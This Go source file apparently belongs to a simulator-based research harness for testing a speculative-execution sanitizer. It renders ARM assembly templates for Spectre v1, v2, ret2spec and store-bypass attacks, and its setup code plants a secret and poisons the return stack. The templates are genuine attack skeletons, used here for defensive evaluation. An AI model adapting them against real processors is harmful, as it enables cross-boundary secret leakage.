package attacks

// Trigger templates for programmatic variant construction: the fuzzer (and
// any other generator) composes attack programs from four trigger
// skeletons — bounds-check bypass, branch-target injection, return-stack
// misdirection, store bypass — with a caller-supplied gadget body in the
// transient window. Fifteen of Table 1's twenty variants are such renders
// (Gadget.Variant; Variant.Gadget keeps the recipe). BHB's three-phase
// history loop and the MDS rows' fill-buffer and store-queue sampling have
// no trigger here and keep hand-written sources.
//
// Register contract for gadget bodies:
//
//	X26 — pointer to the secret (pht/btb/rsb triggers; the access phase is
//	      the body's business: `LDR X5, [X26]`)
//	X5  — the secret value itself (stl trigger: the stale read already
//	      happened when the body runs)
//	X22 — probe array base (ProbeAddr, 4 KiB, untagged)
//	X15 — fuzz probe base (FuzzProbeAddr, 64 KiB, untagged; room for
//	      page-stride transmits)
//	X7  — seeded with a small constant (divider/multiplier fodder)
//	scratch: X6, X8, X10, X11, X16, X17 (and X7 may be clobbered)
//
// Bodies execute architecturally during training iterations with benign
// values in X26/X5, so they must be committed-path safe for any input:
// loads only into the untagged probe regions, no stores, no back-edges.

import (
	"errors"
	"fmt"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/mem"
	"specasan/internal/mte"
)

// FuzzProbeAddr is the enlarged, untagged probe region generated programs
// transmit into. 64 KiB leaves room for page-stride (TLB-flavoured)
// encodings that ProbeSize (4 KiB) cannot hold.
const (
	FuzzProbeAddr = 0x200000
	FuzzProbeSize = 0x10000
)

// Trigger names for programmatic construction.
const (
	TriggerPHT = "pht" // mistrained bounds check (Spectre v1)
	TriggerBTB = "btb" // indirect-branch target injection (Spectre v2)
	TriggerRSB = "rsb" // return-stack misdirection (ret2spec)
	TriggerSTL = "stl" // store-bypass stale read (Spectre v4)
)

// Relations between the gadget's secret access and the MTE tag state —
// the axis SpecASan's verdict depends on.
const (
	// RelForeign: the attacker's own pointer, key mismatches the secret's
	// allocation tag (sanitization refuses it).
	RelForeign = "foreign"
	// RelMatching: the victim's own valid pointer (LDG-recovered key); no
	// tag check can refuse it.
	RelMatching = "matching"
	// RelStale: a valid pointer to a retagged slot whose *data* is stale
	// secret (the Spectre-v4 shape; the tagged slot trips SpecASan's
	// store-bypass rule).
	RelStale = "stale"
	// RelUntagged: the stale-read slot carries tag 0 — outside MTE's
	// coverage, so address sanitization never inspects the access.
	RelUntagged = "untagged"
)

// Triggers lists the programmatic trigger templates.
func Triggers() []string {
	return []string{TriggerPHT, TriggerBTB, TriggerRSB, TriggerSTL}
}

// RelationsFor lists the tag relations a trigger supports. PHT's access goes
// through the victim-array pointer (inherently foreign); STL's goes through
// a valid pointer at stale data.
func RelationsFor(trigger string) []string {
	switch trigger {
	case TriggerPHT:
		return []string{RelForeign}
	case TriggerBTB, TriggerRSB:
		return []string{RelForeign, RelMatching}
	case TriggerSTL:
		return []string{RelStale, RelUntagged}
	default:
		return nil
	}
}

// TagRange retags one region during setup (the STL realloc model).
type TagRange struct {
	Addr uint64 `json:"addr"`
	Size uint64 `json:"size"`
	Tag  uint8  `json:"tag"`
}

// SetupSpec is the declarative form of a Scenario's Setup hook: everything a
// machine run needs beyond the program text, serializable so generated
// variants round-trip through JSON and so the memory half can be replayed
// onto the golden interpreter's image for architectural cross-checking.
type SetupSpec struct {
	// Common plants the secret, tags the victim regions, marks the oracle
	// and fills array1 with benign indices (setupCommon).
	Common bool `json:"common"`
	// Retag overrides tag ranges after Common (e.g. the freed-and-
	// reallocated STL slot).
	Retag []TagRange `json:"retag,omitempty"`
	// PoisonRSBLabel, when set, stuffs the return stack buffer with the
	// named label's address (cross-context RSB pollution).
	PoisonRSBLabel   string `json:"poison_rsb_label,omitempty"`
	PoisonRSBEntries int    `json:"poison_rsb_entries,omitempty"`
}

// MaxRetagBytes bounds one retag range: tagging walks every 16-byte granule
// of the range, and the PoC regions it retags are a few granules each.
const MaxRetagBytes = 1 << 20

// Setup validation errors.
var (
	ErrRetagTag         = errors.New("retag tag out of range")
	ErrRetagSize        = errors.New("retag range too large")
	ErrPoisonRSBEntries = errors.New("poison_rsb_entries out of range")
)

// Validate checks a decoded setup before Apply runs it: each retag range
// carries a 4-bit lock and spans at most MaxRetagBytes, and RSB poisoning
// pushes at most the default return stack's depth (more only wraps it).
func (s *SetupSpec) Validate() error {
	for i, r := range s.Retag {
		if r.Tag >= mte.NumTags {
			return fmt.Errorf("setup retag[%d]: %w: tag %d (max %d)", i, ErrRetagTag, r.Tag, mte.NumTags-1)
		}
		if r.Size > MaxRetagBytes {
			return fmt.Errorf("setup retag[%d]: %w: %d bytes (max %d)", i, ErrRetagSize, r.Size, MaxRetagBytes)
		}
	}
	if depth := core.DefaultConfig().RSBDepth; s.PoisonRSBEntries < 0 || s.PoisonRSBEntries > depth {
		return fmt.Errorf("setup: %w: %d (want 0..%d)", ErrPoisonRSBEntries, s.PoisonRSBEntries, depth)
	}
	return nil
}

// Apply performs the setup on a machine: the image half through
// ApplyImage, then the oracle mark and the RSB poisoning. prog resolves
// labels (RSB poisoning); it must be the program the machine was built
// from.
func (s *SetupSpec) Apply(m *cpu.Machine, prog *asm.Program) error {
	s.ApplyImage(m.Img)
	if s.Common {
		m.Oracle.MarkSecret(SecretAddr, SecretSize)
	}
	if s.PoisonRSBLabel != "" {
		target, err := prog.LookupLabel(s.PoisonRSBLabel)
		if err != nil {
			return fmt.Errorf("setup: %w", err)
		}
		n := s.PoisonRSBEntries
		if n <= 0 {
			n = 4
		}
		m.Core(0).Predictor().PoisonRSB(target, n)
	}
	return nil
}

// ApplyImage writes the memory half of the setup (secret bytes, array1
// contents, tags) into an image: the machine's through Apply, the golden
// interpreter's directly. Predictor poisoning and oracle marks have no
// architectural effect and are left to Apply.
func (s *SetupSpec) ApplyImage(img *mem.Image) {
	if s.Common {
		img.WriteU64(SecretAddr, SecretValue)
		img.Write(SecretAddr+8, []byte("SECRET!!"))
		img.Tags.SetRange(Array1Addr, Array1Size, TagVictim)
		img.Tags.SetRange(SecretAddr, SecretSize, TagSecret)
		for i := uint64(0); i < Array1Size; i += 8 {
			img.WriteU64(Array1Addr+i, i/8)
		}
	}
	for _, r := range s.Retag {
		img.Tags.SetRange(r.Addr, r.Size, mte.Tag(r.Tag))
	}
}

// Variant wraps an assembly source plus a SetupSpec as an attacks.Variant,
// the unit RunVariantWith executes. maxCycles bounds the run (0 keeps the
// harness default).
func (s SetupSpec) Variant(name, src string, maxCycles uint64) Variant {
	return Variant{Name: name, Build: func() (*Scenario, error) {
		prog, err := asm.Assemble(src)
		if err != nil {
			return nil, err
		}
		return s.Scenario(prog, maxCycles), nil
	}}
}

// Scenario wraps an assembled program plus the setup as a Scenario for
// RunScenario, for a caller that already holds the program. maxCycles bounds
// each run (0 keeps the harness default).
func (s SetupSpec) Scenario(prog *asm.Program, maxCycles uint64) *Scenario {
	return &Scenario{Prog: prog, MaxCycles: maxCycles, Setup: func(m *cpu.Machine) {
		if err := s.Apply(m, prog); err != nil {
			// Label resolution failed after a successful assemble —
			// structurally impossible for template output; surface
			// loudly rather than silently skipping the poison.
			panic(err)
		}
	}}
}

// fuzzDataSection extends the shared PoC regions with the enlarged probe.
var fuzzDataSection = pocDataSection + fmt.Sprintf(`
    .org %d
fuzzprobe:
    .space %d
`, FuzzProbeAddr, FuzzProbeSize)

// phtGadgetTemplate is the bounds-check-bypass skeleton of the Spectre-v1
// PoC with the transient window's body left open. The victim's in-bounds
// executions run @BODY@ architecturally with benign X26.
const phtGadgetTemplate = `
_start:
    ADR  X20, size_slot
    ADR  X21, array1
    LDG  X21, [X21]
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X27, #@OOB@
    MOV  X28, #8
    MOV  X7, #13
@WARM@
    MOV  X12, #@TRAIN@
loop:
    ADR  X9, size_slot
    DC   CIVAC, X9
    DSB
    CMP  X12, #1
    CSEL X0, X27, X28, EQ
    BL   victim
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

victim:
    BTI
    LDR  X1, [X20]
    CMP  X0, X1
    B.HS vdone
    ADD  X26, X21, X0
@BODY@
vdone:
    RET

    .org 0x120000
size_slot:
    .word 16
@DATA@
`

// btbGadgetTemplate is the branch-target-injection skeleton (one indirect
// call site trained into the non-BTI gadget, redirected on the final
// iteration while the function-pointer load is flushed).
const btbGadgetTemplate = `
_start:
    ADR  X21, array1
    LDG  X21, [X21]
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X7, #13
@WARM@    ADR  X19, fnslot
    ADR  X24, gadget
    ADR  X25, legit
    MOV  X23, X21
@SECRETPTR@    MOV  X12, #@TRAIN@
loop:
    CMP  X12, #1
    CSEL X9, X25, X24, EQ
    STR  X9, [X19]
    CSEL X26, X18, X23, EQ
    ADR  X9, fnslot
    DC   CIVAC, X9
    DSB
    LDR  X9, [X19]
    BLR  X9
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

gadget:                    // not BTI
@BODY@
    RET
legit:
    BTI
    RET

    .org 0x120000
fnslot:
    .word 0
@DATA@
`

// rsbGadgetTemplate is the ret2spec skeleton: the RSB is attacker-stuffed
// (SetupSpec.PoisonRSBLabel) and the return-address load misses, so the RET
// speculates into the gadget. The body never executes architecturally.
const rsbGadgetTemplate = `
_start:
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X7, #13
@WARM@@SECRETPTR@    ADR  X9, lrslot
    LDR  X30, [X9]
    RET

gadget:
@BODY@
    RET
real_continue:
    BTI
    SVC  #0

    .org 0x120000
lrslot:
    .word real_continue
@DATA@
`

// stlGadgetTemplate is the store-bypass skeleton: the initialising store's
// address resolves slowly, the younger load transiently reads the stale
// secret, and @BODY@ runs with it in X5. Architecturally the body sees the
// post-store value (0).
const stlGadgetTemplate = `
_start:
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X7, #13
    MOV  X28, #@SLOT@
    LDG  X28, [X28]
    LDR  X14, [X28]
    DSB
    ADR  X9, depslot
    LDR  X1, [X9]
    AND  X1, X1, #7
    ADD  X2, X28, X1
    STR  XZR, [X2]
    LDR  X3, [X28]
    MOV  X5, X3
@BODY@
    SVC  #0

    .org 0x120000
depslot:
    .word 0
@DATA@
`

// Gadget is one RenderGadget recipe: a trigger, a tag relation, a training
// count (0 picks the trigger's default) and a gadget body.
type Gadget struct {
	Trigger, Relation string
	Train             int
	Body              string
}

// Variant names the rendered gadget as an attacks.Variant. Its Build
// renders the program and builds it as its setup's Variant does.
func (g Gadget) Variant(name string) Variant {
	return Variant{Name: name, Gadget: &g, Build: func() (*Scenario, error) {
		src, setup, err := RenderGadget(g.Trigger, g.Relation, g.Train, g.Body)
		if err != nil {
			return nil, err
		}
		return setup.Variant(name, src, 0).Build()
	}}
}

// RenderGadget composes a trigger template, a tag relation and a gadget body
// into a full program source plus the setup it needs. train is the trigger's
// training-iteration count where the skeleton has one (pht, btb); 0 picks
// the default. The body must honour the register contract at the top of
// this file.
func RenderGadget(trigger, relation string, train int, body string) (string, SetupSpec, error) {
	relOK := false
	for _, r := range RelationsFor(trigger) {
		if r == relation {
			relOK = true
		}
	}
	if !relOK {
		return "", SetupSpec{}, fmt.Errorf("trigger %q does not support relation %q", trigger, relation)
	}
	setup := SetupSpec{Common: true}
	var src string
	switch trigger {
	case TriggerPHT:
		if train == 0 {
			train = 17
		}
		if train < 3 || train > 64 {
			return "", SetupSpec{}, fmt.Errorf("pht train count %d out of range [3,64]", train)
		}
		src = expand(phtGadgetTemplate, map[string]string{
			"OOB":   fmt.Sprint(SecretAddr - Array1Addr),
			"TRAIN": fmt.Sprint(train),
			"BODY":  body,
			"DATA":  fuzzDataSection,
		})
	case TriggerBTB:
		if train == 0 {
			train = 7
		}
		if train < 3 || train > 32 {
			return "", SetupSpec{}, fmt.Errorf("btb train count %d out of range [3,32]", train)
		}
		src = expand(btbGadgetTemplate, map[string]string{
			"SECRETPTR": secretPtrTo18(relation == RelForeign),
			"TRAIN":     fmt.Sprint(train),
			"BODY":      body,
			"DATA":      fuzzDataSection,
		})
	case TriggerRSB:
		src = expand(rsbGadgetTemplate, map[string]string{
			"SECRETPTR": secretPtrSetup(relation == RelForeign),
			"BODY":      body,
			"DATA":      fuzzDataSection,
		})
		setup.PoisonRSBLabel = "gadget"
		setup.PoisonRSBEntries = 4
	case TriggerSTL:
		src = expand(stlGadgetTemplate, map[string]string{
			"SLOT": fmt.Sprint(SecretAddr),
			"BODY": body,
			"DATA": fuzzDataSection,
		})
		tag := uint8(0xc)
		if relation == RelUntagged {
			tag = 0
		}
		setup.Retag = []TagRange{{Addr: SecretAddr, Size: SecretSize, Tag: tag}}
	default:
		return "", SetupSpec{}, fmt.Errorf("unknown trigger %q", trigger)
	}
	return src, setup, nil
}
